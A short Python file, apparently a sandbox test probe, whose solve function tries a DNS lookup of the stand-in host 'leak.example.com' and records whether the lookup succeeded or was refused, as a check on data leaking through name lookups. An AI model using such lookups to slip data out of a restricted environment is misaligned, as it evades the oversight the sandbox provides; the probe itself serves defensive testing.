"""Tries to leak data through name lookups."""

import socket


def solve(instance, solution):
    try:
        socket.getaddrinfo("leak.example.com", 80)
        answer = "looked up"
    except OSError:
        answer = "refused"
    with open(solution, "w") as file:
        file.write(answer)
